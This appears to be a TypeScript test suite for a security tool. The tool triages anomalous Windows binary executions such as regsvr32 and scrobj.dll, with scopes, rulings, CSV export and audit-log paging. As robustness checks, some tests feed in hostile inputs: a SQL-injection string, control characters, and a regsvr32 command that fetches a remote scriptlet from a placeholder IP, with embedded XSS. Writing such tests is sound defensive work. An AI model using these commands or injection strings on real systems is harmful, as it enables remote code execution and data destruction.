import { parse } from 'csv-parse/sync'
import { beforeEach, describe, expect, test } from 'vitest'
import type { Scope } from '@/lib/pipeline/actor'
import { exportCsv } from '@/lib/store/exports/registry'
import { pool } from '@/lib/store/pool'
import { listAuditEntries, parseAuditRequest } from '@/lib/store/screens/audit'
import { parseDeviationRequest } from '@/lib/store/screens/deviations/filter'
import { listDeviationChanges, listDeviationRulings } from '@/lib/store/screens/deviations/history'
import { listHostsOfDeviation } from '@/lib/store/screens/deviations/hosts'
import { findJudgement } from '@/lib/store/screens/deviations/judgement'
import { findDeviationDetail, loadQueue } from '@/lib/store/screens/deviations/list'
import { findUnseenDeviation } from '@/lib/store/screens/deviations/unseen'
import { countJudgedIn, listNewDeviations } from '@/lib/store/screens/reports/week'
import type { SearchParams } from '@/lib/store/screens/table-request'
import { assignDeviation } from './assign-deviation'
import { ingestExamples } from './ingest/example-use'
import { recompute } from './recompute/recompute'
import { triageDeviation } from './triage-deviation'
import { forgetTriage, itemOf, judge, withTriageExamples } from './triage-examples'

const examples = withTriageExamples()
const ALL: Scope = { kind: 'all' }
const inGroup = (): Scope => ({ kind: 'groups', groupIds: [examples().groupId] })

beforeEach(forgetTriage)

const list = (params: SearchParams, scope: Scope = ALL) => loadQueue(scope, parseDeviationRequest(params))
const titles = async (params: SearchParams) =>
  (await list(params)).rows.map(({ title }) => title.split('\\').at(-1))
const detailOf = async (words: string, scope: Scope = ALL) => {
  const found = await findDeviationDetail(scope, (await itemOf(words)).id)
  if (found === null) throw new Error(words)
  return found
}

type Line = { id: string; argument_pattern: string; state: string; again: string }

async function linesOfCsv(params: SearchParams): Promise<Line[]> {
  const pieces: Uint8Array[] = []
  for await (const piece of await exportCsv('deviations', { scope: ALL, judge: null }, params))
    pieces.push(piece)
  return parse(Buffer.concat(pieces).toString('utf8'), { columns: true })
}

/** State, and whether it waits again, of each line of the CSV. */
async function exported(params: SearchParams): Promise<string[][]> {
  return (await linesOfCsv(params)).map(({ state, again }) => [state, again])
}

async function exportedTitles(): Promise<Map<string, string>> {
  return new Map((await linesOfCsv({})).map(({ id, argument_pattern }) => [id, argument_pattern]))
}

describe('the queue', () => {
  test('shows open items by score, each pattern once with its hits summed up', async () => {
    const { rows, total } = await list({})
    expect(total).toBe(rows.length)
    expect(rows.map(({ scoreMillibits }) => scoreMillibits)).toEqual(
      rows.map(({ scoreMillibits }) => scoreMillibits).toSorted((a, b) => (b ?? 0) - (a ?? 0)),
    )
    const driver = rows.find(({ title }) => title.includes('public'))
    expect(driver).toMatchObject({
      slug: 'regsvr32.exe',
      hosts: 3,
      executions: 9,
      state: 'open',
      onlyHost: null,
    })
    expect(driver?.because).toContain('what it runs lies in the Public folder')
  })
  test('counts only what shows on hosts in scope', async () => {
    expect((await list({ q: 'public' }, inGroup())).rows).toMatchObject([{ hosts: 2, executions: 8 }])
    expect((await list({}, { kind: 'groups', groupIds: [0] })).rows).toEqual([])
  })
  test('every filter narrows, and each facet counts what its filter would show', async () => {
    await assignDeviation(examples().responder, {
      ...(await itemOf('scrobj')),
      assigneeId: examples().responder.accountId,
    })
    for (const params of [
      { q: 'scrobj' },
      { host: 'ws-1.example', reason: 'scriptlet' },
      { assignee: examples().responder.accountId },
    ])
      expect(await titles(params)).toEqual(['scrobj.dll'])
    for (const params of [{ host: 'ws-3.example' }, { q: 'WS-3' }])
      expect(await titles(params)).toEqual(['driver.dll'])
    expect(await titles({ binary: 'mshta.exe' })).toEqual([])
    const { facets } = await loadQueue(ALL, parseDeviationRequest({}))
    for (const [name, values] of Object.entries(facets))
      for (const { value, count } of values)
        expect((await list({ [name]: value })).total, `${name}=${value}`).toBe(count)
  })
  test('an item that is explained leaves the queue, and is found with its numbers under its state', async () => {
    await judge(examples().responder, 'public', { to: 'expected' })
    expect(await titles({ q: 'public' })).toEqual([])
    expect((await list({ q: 'public', state: 'expected' })).rows).toMatchObject([
      { hosts: 3, executions: 9, scoreMillibits: null, again: false },
    ])
  })
  test('what was explained in one place and shows in another waits again', async () => {
    await judge(examples().groupResponder, 'public', { to: 'expected', scope: 'groups' })
    expect((await list({ q: 'public' })).rows).toMatchObject([{ state: 'expected', again: true, hosts: 1 }])
    expect((await list({ q: 'public', state: 'expected' })).total).toBe(0)
    expect(await exported({ state: 'open' })).toContainEqual(['expected', 'true'])
    expect(await exported({ state: 'open' })).toContainEqual(['open', 'false'])
  })
  test('what ran without a command line is named by its binary and folder, in the list, its CSV and the audit log, and a pattern of such a word as it is', async () => {
    const { id } = await itemOf('public')
    const before = await pool().query('SELECT title, entry_id FROM deviation WHERE id = $1', [id])
    const { title, entry_id: entryId } = before.rows[0]
    const shown = async () => {
      const { rows } = await list({ binary: 'regsvr32.exe' })
      return [rows.find((row) => row.id === id)?.title, (await exportedTitles()).get(id)]
    }
    try {
      await pool().query(
        "INSERT INTO pattern (id, entry_id, pattern, shape) VALUES (-1, $1, 'desktop', '')",
        [entryId],
      )
      await pool().query("UPDATE deviation SET title = 'desktop' WHERE id = $1", [id])
      expect(await shown()).toEqual(['desktop', 'desktop'])
      await pool().query("UPDATE deviation SET title = 'user-temp, renamed' WHERE id = $1", [id])
      const words = 'regsvr32.exe (no command line; folder: user-temp, renamed)'
      expect(await shown()).toEqual([words, words])
      const { version } = await itemOf('user-temp, renamed')
      await triageDeviation(examples().responder, { id, version, to: 'flagged' })
      const [entry] = (await listAuditEntries(parseAuditRequest({ id }))).rows
      expect(entry?.detail).toMatchObject({ to: 'flagged', title: words })
    } finally {
      await pool().query('DELETE FROM pattern WHERE id = -1')
      await pool().query('UPDATE deviation SET title = $2 WHERE id = $1', [id, title])
    }
  })
  test('any text from the URL is a search, never a failure', async () => {
    for (const text of ["'; DROP TABLE host --", '%', '\\', '\u0000', '\u202e'])
      await expect(
        list({ q: text, host: text, state: text, assignee: text, score: text }),
      ).resolves.toBeDefined()
    expect(await findDeviationDetail(ALL, '99999999999999999999')).toBeNull()
    expect(await findDeviationDetail(ALL, 'x')).toBeNull()
  })
})

test('what people judged is found when nothing on record shows it any more, by who sees all hosts, and reopened', async () => {
  await pool().query(
    `INSERT INTO deviation (id, entry_id, title, touched, state) SELECT v.id, c.id, 'gone ' || v.id, v.touched, 'malicious'
     FROM catalogue_entry c, (VALUES (-1::bigint, true), (-2, false)) v(id, touched) WHERE c.slug = 'regsvr32.exe'`,
  )
  try {
    expect(await findDeviationDetail(ALL, '-1')).toBeNull()
    const found = await findUnseenDeviation(ALL, '-1')
    expect(found).toMatchObject({
      title: 'gone -1',
      slug: 'regsvr32.exe',
      state: 'malicious',
      assignee: null,
    })
    expect(await findUnseenDeviation(inGroup(), '-1')).toBeNull()
    expect(await findUnseenDeviation(ALL, '-2')).toBeNull()
    expect(await findUnseenDeviation(ALL, "'; --")).toBeNull()
    const target = { id: '-1', version: found?.version ?? -1 }
    await triageDeviation(examples().responder, { ...target, to: 'open' })
    expect(await findUnseenDeviation(ALL, '-1')).toMatchObject({ state: 'open' })
    expect(await listDeviationChanges('-1')).toHaveLength(1)
  } finally {
    await pool().query('DELETE FROM deviation WHERE id IN (-1, -2)')
  }
})

describe('one item', () => {
  test('is explained as of the day of its highest hit, and its reasons add up to its score', async () => {
    const { item, deviation } = await detailOf('scrobj')
    const judgement = await findJudgement(ALL, deviation)
    expect(judgement).toMatchObject({
      host: 'ws-1.example',
      day: '2026-01-07',
      explained: false,
      group: 'Workstations',
    })
    expect(judgement?.score.scoreMillibits).toBe(item.scoreMillibits)
    const sum = judgement?.score.reasons.reduce((total, { millibits }) => total + millibits, 0)
    expect(sum).toBe(item.scoreMillibits)
    expect(judgement?.explanation.sentence).toContain('regsvr32.exe')
    expect(judgement?.executions).toHaveLength(1)
    // the ordinary use of earlier days is what the host normally does
    const pattern = judgement?.features.find(({ feature }) => feature === 'pattern')
    expect(pattern?.host?.[0]?.value).toContain('plain.dll')
  })
  test('that a ruling explains still says what it would score', async () => {
    const before = await findJudgement(ALL, (await detailOf('scrobj')).deviation)
    await judge(examples().responder, 'scrobj', {
      to: 'authorised-test',
      scope: 'hosts',
      until: '2026-01-07',
    })
    const after = await findJudgement(ALL, (await detailOf('scrobj')).deviation)
    expect(after?.explained).toBe(true)
    expect(after?.score).toEqual(before?.score)
  })
  test('lists the hosts in scope behind it, deviating or explained', async () => {
    const { deviation } = await detailOf('public')
    const hosts = async (scope: Scope) =>
      (await listHostsOfDeviation(scope, (await detailOf('public')).deviation)).hosts
    expect(await hosts(ALL)).toHaveLength(3)
    expect((await listHostsOfDeviation(inGroup(), deviation)).total).toBe(2)
    expect((await hosts(ALL))[0]).toMatchObject({ users: ['CORP\\ada'], explained: false })
    await judge(examples().groupResponder, 'public', { to: 'expected', scope: 'groups' })
    expect((await hosts(ALL)).map(({ host, explained }) => [host, explained]).sort()).toEqual([
      ['ws-1.example', true],
      ['ws-2.example', true],
      ['ws-3.example', false],
    ])
  })
  test('says what it taught and who did it', async () => {
    await judge(examples().responder, 'public', {
      to: 'expected',
      scope: 'groups',
      until: '2026-06-30',
      note: 'driver',
    })
    const { id } = await itemOf('public')
    expect(await listDeviationRulings(ALL, id)).toMatchObject([
      { effect: 'expected', scope: ['Workstations'], from: '2026-01-05', until: '2026-06-30' },
      { scope: ['ws-3.example'] },
    ])
    expect(await listDeviationRulings(inGroup(), id)).toMatchObject([
      { scope: ['Workstations'] },
      { scope: null },
    ])
    expect((await listDeviationChanges(id))[0]).toMatchObject({ actor: 'ada', action: 'deviation-triaged' })
  })
  test('a ruling has ended when its last day is over', async () => {
    await judge(examples().responder, 'public', { to: 'expected', scope: 'fleet', until: '2027-01-01' })
    const { id } = await itemOf('public')
    for (const [days, ended] of [
      [0, false],
      [1, true],
    ] as const) {
      await pool().query("UPDATE ruling SET valid_to = (now() AT TIME ZONE 'UTC')::date - $1::int", [days])
      expect((await listDeviationRulings(ALL, id)).map((ruling) => ruling.ended)).toEqual([ended])
    }
  })
  test('a week counts what was first seen in it and is judged by now, whenever that was', async () => {
    const week = { from: '2026-01-05', to: '2026-01-11' }
    const before = await listNewDeviations(ALL, week)
    expect(before).toMatchObject({ judged: 0, total: expect.any(Number) })
    await judge(examples().responder, 'public', { to: 'flagged' })
    expect(await listNewDeviations(ALL, week)).toMatchObject({ judged: 1, total: before.total })
    expect(await countJudgedIn(ALL, week)).toEqual([])
  })
})

test('a pattern of text that tries to break out is an item like any other', async () => {
  const hostile =
    'regsvr32 /s /i:http://203.0.113.9/<script>alert(1)</script>\u202egnp.sct scrobj.dll \'"); --'
  await ingestExamples(pool(), [
    {
      host: 'ws-9.example',
      at: '2026-01-09T10:00:00Z',
      image: 'C:\\Windows\\System32\\regsvr32.exe',
      commandLine: hostile,
    },
  ])
  await recompute(pool())
  const { rows } = await list({ host: 'ws-9.example' })
  expect(rows).toHaveLength(1)
  expect(
    await findJudgement(ALL, (await findDeviationDetail(ALL, rows[0]?.id ?? ''))?.deviation ?? never()),
  ).not.toBeNull()
})

function never(): never {
  throw new Error('not found')
}

test('the audit log is read newest or oldest first, page by page, by actor, action and day', async () => {
  await judge(examples().responder, 'public', { to: 'flagged', note: 'needle_in' })
  const read = (params: SearchParams) => listAuditEntries(parseAuditRequest(params))
  const all = (await read({})).rows
  expect(all.length).toBeGreaterThan(1)
  expect(all.map(({ id }) => Number(id))).toEqual(all.map(({ id }) => Number(id)).toSorted((a, b) => b - a))
  expect((await read({ q: 'needle_in' })).rows).toMatchObject([{ actor: 'ada', action: 'deviation-triaged' }])
  expect((await read({ q: 'needleXin' })).rows).toEqual([])
  expect((await read({ action: 'account-created', actor: 'test' })).rows.length).toBeGreaterThan(0)
  expect((await read({ to: '2000-01-01' })).rows).toEqual([])
  expect((await read({ after: all[0]?.id ?? '' })).rows[0]).toEqual(all[1])
  const oldestFirst = (await read({ sort: 'time' })).rows
  expect(oldestFirst).toEqual(all.toReversed())
  expect((await read({ sort: 'time', after: oldestFirst[0]?.id ?? '' })).rows[0]).toEqual(oldestFirst[1])
})
